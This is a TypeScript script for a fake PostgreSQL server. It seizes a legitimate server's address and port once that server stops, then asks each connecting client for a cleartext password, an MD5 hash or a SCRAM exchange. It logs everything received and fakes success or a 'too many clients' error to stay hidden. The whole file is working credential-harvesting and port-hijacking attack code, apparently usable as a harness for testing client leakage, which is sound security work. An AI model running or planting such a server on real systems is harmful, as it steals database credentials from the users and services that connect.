import { createServer, type Socket } from 'node:net'
import { stdin, stdout } from 'node:process'

/** What an impostor asks its clients for, one after the other: a password in three forms, or nothing at all. */
const DEMANDS = ['clear', 'md5', 'sasl', 'nothing'] as const
type Demand = (typeof DEMANDS)[number]

const SSL_REQUEST = 80877103

const message = (type: string, ...parts: (Buffer | string | number)[]) => {
  const body = Buffer.concat(parts.map(part => (typeof part === 'number' ? int32(part) : Buffer.from(part))))
  return Buffer.concat([Buffer.from(type), int32(body.length + 4), body])
}

function int32(value: number): Buffer {
  const buffer = Buffer.alloc(4)
  buffer.writeInt32BE(value)
  return buffer
}

const authentication = (kind: number, ...parts: string[]) => message('R', kind, ...parts)
const tooManyConnections = message('E', 'SFATAL\0VFATAL\0C53300\0Msorry, too many clients already\0\0')
const ready = message('Z', 'I')

const OPENING: Record<Demand, Buffer> = {
  clear: authentication(3),
  md5: authentication(5, 'salt'),
  sasl: authentication(10, 'SCRAM-SHA-256\0\0'),
  nothing: Buffer.concat([authentication(0), ready]),
}

/** A server of PostgreSQL's protocol that knows no password, and reports what its clients tell it. */
function serve(socket: Socket, demand: Demand, report: (text: string) => void): void {
  let isStarted = false
  let hasSasl = false
  socket.on('error', () => undefined)
  socket.on('data', data => {
    if (!isStarted) {
      if (data.readInt32BE(4) === SSL_REQUEST) return void socket.write('N')
      isStarted = true
      report(`startup ${data.subarray(8).toString('latin1')}`)
      return void socket.write(OPENING[demand])
    }
    report(data.toString('latin1'))
    if (demand !== 'sasl') return void socket.end(tooManyConnections)
    if (hasSasl) return void socket.write(Buffer.concat([authentication(12, 'v=AAAA'), authentication(0), ready]))
    hasSasl = true
    const nonce = /r=([^,\0]+)/.exec(data.toString('latin1'))?.[1]
    socket.write(authentication(11, `r=${nonce}impostor,s=c2FsdA==,i=1`))
  })
}

/**
 * Takes `address:port` as soon as it is free, as the user `uid` if that is given, and prints a line of JSON for
 * everything that clients send. Ends with its standard input.
 */
function main([address = '', port = '', uid = '']: string[]): void {
  if (uid !== '') {
    process.setgroups?.([])
    process.setgid?.(Number(uid))
    process.setuid?.(Number(uid))
  }
  let count = 0
  const server = createServer(socket => {
    const demand = DEMANDS[count++ % DEMANDS.length] ?? 'clear'
    serve(socket, demand, text => stdout.write(`${JSON.stringify({ demand, text })}\n`))
  })
  const listen = () => server.listen(Number(port), address)
  // The address is the victim's until its server has ended.
  server.on('error', () => setTimeout(listen, 1))
  server.on('listening', () => stdout.write(`${JSON.stringify({ listening: true, uid: process.getuid?.() })}\n`))
  stdin.on('end', () => process.exit())
  stdin.resume()
  listen()
}

main(process.argv.slice(2))
